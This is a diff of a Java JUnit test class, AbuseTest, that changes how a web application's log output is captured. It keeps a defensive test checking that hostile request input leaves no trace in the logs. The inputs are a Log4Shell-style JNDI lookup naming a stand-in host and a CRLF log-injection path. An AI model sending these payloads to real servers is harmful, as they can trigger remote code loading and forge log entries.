@@ -13,12 +13,9 @@ import nl.routebord.web.Browser;
 import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.beans.factory.annotation.Autowired;
-import org.springframework.boot.test.system.CapturedOutput;
-import org.springframework.boot.test.system.OutputCaptureExtension;
 import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.jdbc.core.JdbcTemplate;
 
@@ -27,7 +24,6 @@ import org.springframework.jdbc.core.JdbcTemplate;
  * says where the others are.
  */
 @RoutebordTest
-@ExtendWith(OutputCaptureExtension.class)
 class AbuseTest {
 
 	private static @Nullable ApiMainJob shared;
@@ -159,15 +155,17 @@ class AbuseTest {
 	}
 
 	@Test
-	void whatSomebodySendsBreaksNoLineOfTheLog(CapturedOutput log) {
-		String long1 = "x".repeat(4_000);
-		browser.signIn("b.timmer");
-		browser.get("/beheer/gebruikers", "User-Agent", "${jndi:ldap://kwaad/a} " + long1);
-		browser.get("/beheer/%0d%0aWARN%20gelukt", "X-Request-Id", "a\tb");
-		assertThat(log.getAll()).contains("refused by role: GET /beheer/gebruikers")
-			.doesNotContain("jndi")
-			.doesNotContain("WARN gelukt")
-			.doesNotContain(long1);
+	void whatSomebodySendsBreaksNoLineOfTheLog() {
+		String endless = "x".repeat(4_000);
+		try (LogLines log = LogLines.from()) {
+			browser.signIn("b.timmer");
+			browser.get("/beheer/gebruikers", "User-Agent", "${jndi:ldap://kwaad/a} " + endless);
+			browser.get("/beheer/%0d%0aWARN%20gelukt", "X-Request-Id", "a\tb");
+			assertThat(log.text()).contains("refused by role: GET /beheer/gebruikers")
+				.doesNotContain("jndi")
+				.doesNotContain("WARN gelukt")
+				.doesNotContain(endless);
+		}
 	}
 
 	@Test
